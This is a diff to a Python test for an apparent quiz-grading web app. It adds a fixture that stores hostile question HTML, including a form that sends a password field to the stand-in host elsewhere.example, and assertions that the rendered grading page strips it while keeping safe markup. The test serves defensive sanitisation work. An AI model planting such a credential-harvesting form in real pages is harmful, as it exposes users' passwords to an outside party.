@@ -22,7 +22,14 @@ RUBRIC = '[{"name": "Reasons", "points": 3}, {"name": "Words", "description": "P
 async def essays(school: School, *names: str, **columns: Any) -> tuple[UUID, list[Person]]:
     """A quiz with an essay of four points, which these learners have written."""
     essay = await school.question("Why does a policy end?", "essay", points=4)
-    await school.value(f"update public.question_versions set rubric = '{RUBRIC}' where id = $1", essay)
+    # Written past the editor, as another client could.
+    hostile = (
+        '<p>Why does <b>a policy</b> end <span data-math="x^2"></span>?</p>'
+        "<form action=https://elsewhere.example><input name=password></form>"
+    )
+    await school.value(
+        f"update public.question_versions set rubric = '{RUBRIC}', question_html = $2 where id = $1", essay, hostile
+    )
     quiz = await school.quiz(essay, status="published", **columns)
     people: list[Person] = []
     for name in names:
@@ -47,6 +54,9 @@ async def test_answers_are_graded_one_after_the_other(client: Client, school: Sc
     assert "Mara Okafor" in page.text
     assert "Mara says because." in page.text
     assert "alert(1)" not in page.text
+    assert 'Why does <b>a policy</b> end <span data-math="x^2"></span>?' in page.text
+    assert re.search(r"<script[^>]+reading", page.text)  # It is drawn.
+    assert "elsewhere.example" not in page.text
     assert "0 of 2" in page.text
     [action] = re.findall(r'id="qg-form" method="post" action="([^"]+)"', page.text)
     given = {"points": "", "feedback": "Well argued.", "seen": ""}
